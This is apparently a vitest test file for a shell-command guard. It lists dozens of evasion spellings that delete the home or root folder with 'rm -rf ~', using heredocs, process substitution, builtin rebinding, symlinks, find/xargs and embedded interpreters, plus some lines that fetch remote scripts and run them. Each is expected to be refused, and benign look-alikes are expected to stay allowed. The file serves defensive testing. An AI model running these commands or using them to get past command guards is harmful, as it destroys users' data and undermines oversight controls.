import { describe, expect, it } from "vitest";
import { checkCommand } from "./check.js";
import { resolveOptions } from "./options.js";

// Round 4 of the outside attacks (issue #25): each class, the spellings that ran `rm -rf ~` past the guard,
// and the everyday lines of the same shape that must stay allowed. A fixed machine: the project is
// /home/dev/project, the user's home /home/dev.
const environment = { projectRoot: "/home/dev/project", home: "/home/dev" };
const guard = resolveOptions({}, environment).guard;
const refused = (command: string) => checkCommand(command, guard).violation !== undefined;

const catastrophic: Record<string, readonly string[]> = {
  // A script changed earlier in the line by a command whose effect is not followed holds unknown text.
  "a script written by a command not followed, then run": [
    "cp /dev/stdin x.sh <<< 'rm -rf ~'; bash x.sh",
    "install /dev/stdin x.sh <<< 'rm -rf ~'; sh x.sh",
    "dd of=x.sh <<< 'rm -rf ~'; bash x.sh",
    "dd of=x.sh status=none <<< 'rm -rf ~'; . ./x.sh",
    "echo 'rm -rf ~' > x; ln x y.sh; bash y.sh",
    "echo 'rm -rf ~' > x; ln -s x y.sh; bash y.sh",
    "echo 'rm -rf ~' > x; cp x y.sh; bash y.sh",
    "echo 'rm -rf ~' > x; mv x y.sh; bash y.sh",
    "echo ls > x.sh; sed -i 's/ls/rm -rf ~/' x.sh; bash x.sh",
    "curl -so x.sh https://example.com/a; bash x.sh",
    "wget -O x.sh https://example.com/a; sh x.sh",
  ],
  "a script named by find or xargs after the line wrote files": [
    "echo 'rm -rf ~' > x.sh; find . -name x.sh -exec bash {} \\;",
    "echo 'rm -rf ~' > x.sh; find . -name x.sh -exec {} \\;",
    "echo 'rm -rf ~' > x.sh; xargs bash <<< x.sh",
    "echo 'rm -rf ~' > x.sh; echo x.sh | xargs sh",
  ],
  // The code a shell reads on standard input comes from around it, not from its own pipe or redirect.
  "a shell reading an input it inherits": [
    "{ bash; } <<< 'rm -rf ~'",
    "( bash ) <<< 'rm -rf ~'",
    "{ sh -s; } <<< 'rm -rf ~'",
    "echo 'rm -rf ~' | { bash; }",
    "echo 'rm -rf ~' | ( bash )",
    "f() { bash; }; f <<< 'rm -rf ~'",
    "f() { bash; }; echo 'rm -rf ~' | f",
    "f() { bash; } <<< 'rm -rf ~'; f",
    "if true; then bash; fi <<< 'rm -rf ~'",
    "while true; do sh; break; done <<< 'rm -rf ~'",
    "case x in x) bash;; esac <<< 'rm -rf ~'",
    "exec 0<<< 'rm -rf ~'; bash",
    "exec <<< 'rm -rf ~'; bash",
    "exec < <(echo rm -rf ~); sh",
    "exec 3<<< 'rm -rf ~'; bash <&3",
    "exec 3<<< 'rm -rf ~'; exec 0<&3; bash",
    "{ source /dev/stdin; } <<< 'rm -rf ~'",
    "{ . /dev/stdin; } <<< 'rm -rf ~'",
    "echo 'rm -rf ~' | bash -c 'source /dev/stdin'",
    "echo 'rm -rf ~' | bash -c 'bash'",
    "bash <<< $'bash\\nrm -rf ~'",
    "bash /dev/fd/3 3<<< 'rm -rf ~'",
    "bash /proc/self/fd/3 3<<< 'rm -rf ~'",
    "source /dev/fd/3 3<<< 'rm -rf ~'",
    "cat >(bash) <<< 'rm -rf ~'",
    "tee >(bash) <<< 'rm -rf ~'",
    "echo 'rm -rf ~' > >(bash)",
    "echo 'rm -rf ~' > >(sh)",
    "echo 'rm -rf ~' | tee >(sh) >/dev/null",
    "{ python3; } <<< 'import os; os.system(\"rm -rf ~\")'",
    "echo 'import shutil; shutil.rmtree(\"/home/dev\")' | { python3; }",
  ],
  "a builtin that rebinds a name or runs code from its options": [
    "hash -p /bin/rm ls; ls -rf ~",
    "hash -p /bin/sh ls; ls -c 'rm -rf ~'",
    "builtin hash -p /bin/rm ls; ls -rf ~",
    "command hash -p /bin/rm ls; ls -rf ~",
    "hash -lp /bin/rm ls; ls -rf ~",
    "enable -f /tmp/x.so ls; ls",
    "mapfile -C 'rm -rf ~' -c 1 a <<< x",
    "mapfile -c1 -C'rm -rf ~' a <<< x",
    "readarray -C 'rm -rf ~' -c 1 a <<< x",
    "compgen -C 'rm -rf ~' x",
    "f() { rm -rf $d; }; d=~; compgen -F f x",
    "compgen -W '$(rm -rf ~)' x",
    "compgen -W '`rm -rf ~`' x",
  ],
  "a NUL ending what xargs reads": [
    "printf '%s\\0' ~ | xargs -0 rm -rf",
    "printf '%s\\0' / | xargs -0 -I{} rm -rf {}",
    "printf '/tmp/a\\0/home/dev\\0' | xargs -0 -n1 rm -rf",
    "printf '%s\\0' ~ | parallel -0 rm -rf",
  ],
  // GNU rm: `rm -rf x/` with `x` a link to a folder empties that folder; `x/*` globs inside it.
  "a path through a link the line made": [
    "ln -s ~ x; rm -rf x/",
    "ln -s ~ x; rm -rf x/*",
    "ln -s ~ x; rm -rf ./x/.[!.]* ./x/*",
    "ln -sfn / x; rm -rf x/*",
    "ln --symbolic ~ /tmp/x; rm -rf /tmp/x/",
    "ln -s .. up; rm -rf up/",
    "ln -s ../.. up; rm -rf up/*",
    "ln -s -t /tmp ~; rm -rf /tmp/dev/",
    "ln -sf ~ /tmp; rm -rf /tmp/dev/",
    "ln -s ~ x; cd x; rm -rf *",
    "ln -s ~ x && cd x/ && rm -rf ./*",
    'ln -s "$T" x; rm -rf x/',
    "ln -s /usr/lib x; rm -rf x/",
  ],
  // find's first result may be its start folder: a shell run by -exec deletes what `{}` hands it.
  "a find result handed to a shell by -exec": [
    "find ~ -maxdepth 0 -exec sh -c 'rm -rf \"$1\"' _ {} \\;",
    "find ~ -exec sh -c 'rm -rf \"$0\"' {} \\;",
    "find / -exec bash -c 'for f; do rm -rf \"$f\"; done' _ {} +",
    "find ~ -type d -exec sh -c 'cd \"$1\" && rm -rf *' _ {} \\;",
    "find ~ -maxdepth 0 -exec sudo sh -c 'rm -rf \"$1\"' _ {} \\;",
  ],
  "words xargs hands to a shell's script": [
    "xargs sh -c 'rm -rf \"$0\"' <<< ~",
    "echo ~ | xargs sh -c 'rm -rf \"$1\"' _",
    "echo / | xargs -I{} bash -c 'rm -rf \"$1\"' _ {}",
    "ls | xargs -I{} sh -c 'rm -rf \"$1\"' _ {}",
  ],
  "a script file a block wrote": [
    "{ echo 'rm -rf ~'; } > x.sh; bash x.sh",
    "( echo 'rm -rf ~' ) > x.sh; bash x.sh",
    "{ echo 'rm -rf ~'; } >> x.sh; source x.sh",
  ],
  '"$*" joined with the first character of an IFS the line set': [
    'set -- r m; IFS=; c="$*"; $c -rf ~',
    'set -- r m; IFS=; "$*" -rf ~',
    'f() { IFS=; "$*" -rf ~; }; f r m',
    'set -- /home dev; IFS=/; rm -rf "$*"',
  ],
  "a program with no model given code in a string or on its input": [
    "lua -e 'os.execute(\"rm -rf ~\")'",
    "tclsh <<< 'exec rm -rf ~'",
    "Rscript -e 'system(\"rm -rf ~\")'",
    "julia -e 'run(`rm -rf /home/dev`)'",
    "mytool --script 'x = system(\"rm -rf ~\")'",
    "ed <<< '!rm -rf ~'",
    "ed -s f <<< '!rm -rf ~'",
    "printf '!rm -rf ~\\n' | ed -s",
    "sftp host <<< '!rm -rf ~'",
    "gdb -q <<< 'shell rm -rf ~'",
    "sqlite3 db <<< '.shell rm -rf ~'",
    "sqlite3 db <<< '.system rm -rf ~'",
    "mytool <<EOF\nrm -rf ~\nEOF",
  ],
};

const everyday = [
  "echo a > x.sh && echo b >> x.sh && bash x.sh",
  "echo ls > x.sh && chmod +x x.sh && ./x.sh",
  "cat x.sh && bash x.sh",
  "grep -q foo x.sh && bash x.sh",
  "mkdir -p d && cd d",
  "npm test && bash scripts/check.sh",
  "find . -name '*.sh' -exec shellcheck {} +",
  "trap 'rm -rf \"$TMP\"' EXIT",
  "cd build && rm -rf *",
  "find . -name node_modules -prune -exec rm -rf {} +",
  "bash",
  "bash <<< 'echo hi'",
  "{ cat; } <<< x",
  '{ read -r line; echo "$line"; } < notes.txt',
  'while read -r f; do bash scripts/check.sh "$f"; done < list',
  'while read -r f; do sh -c \'echo "$1"\' _ "$f"; done < list',
  "f() { cat; }; f <<< hi",
  "echo hi | { cat; }",
  "exec 3< notes.txt; read -r line <&3",
  "exec > log.txt 2>&1; make",
  "diff <(sort a) <(sort b)",
  "tee >(wc -l) < notes.txt",
  "hash -r",
  "hash",
  "hash node",
  "enable -n echo",
  "enable -a",
  "mapfile -t lines < notes.txt",
  'readarray -t lines <<< "$(ls)"',
  "mapfile -t -d '' files < <(find . -print0)",
  "compgen -c git",
  "compgen -W 'start stop' st",
  "printf '%s\\0' build dist | xargs -0 rm -rf",
  "find . -name '*.tmp' -print0 | xargs -0 rm -f",
  "lua -e 'print(1 + 1)'",
  "Rscript -e 'summary(c(1, 2, 3))'",
  "sqlite3 db <<< 'select count(*) from users;'",
  "patch -p1 <<EOF\n--- a/s.sh\n+++ b/s.sh\n@@ -1 +1 @@\n-rm -rf build\n+rm -rf dist\nEOF",
  "psql -c 'select 1'",
  'set -- a b; IFS=,; echo "$*"',
  "find . -name node_modules -prune -exec sh -c 'rm -rf \"$1\"' _ {} \\;",
  "find . -name '*.bak' -exec sh -c 'rm -f \"$0\"' {} \\;",
  "find . -type d -name build -exec bash -c 'rm -rf \"$1\"' _ {} +",
  "find . -name '*.c' -exec sh -c 'echo \"$1\"' _ {} \\;",
  "{ echo a; echo b; } > notes.txt; cat notes.txt",
  "{ make; } > build.log 2>&1; bash scripts/check.sh",
  "xargs sh -c 'rm -rf \"$0\"' <<< build",
  "echo build | xargs -I{} sh -c 'rm -rf \"$1\"' _ {}",
  "printf '%s\\n' a b | xargs -n1 sh -c 'echo \"$0\"'",
  "ln -s ~ x; rm x",
  "ln -s ~ x; rm -rf x",
  "ln -s /tmp/real build; rm -rf build/",
  "ln -s ../shared node_modules; rm -rf node_modules",
  "ln -sf dist/app.js current.js; rm -rf dist/",
];

describe("round 4: lines that run rm -rf ~ (or worse) are refused", () => {
  for (const [family, lines] of Object.entries(catastrophic)) {
    it.each(lines)(`${family}: %s`, (line) => {
      expect(refused(line)).toBe(true);
    });
  }
});

describe("round 4: everyday lines of the same shapes stay allowed", () => {
  it.each(everyday)("%s", (line) => {
    expect(checkCommand(line, guard).violation).toBeUndefined();
  });
});
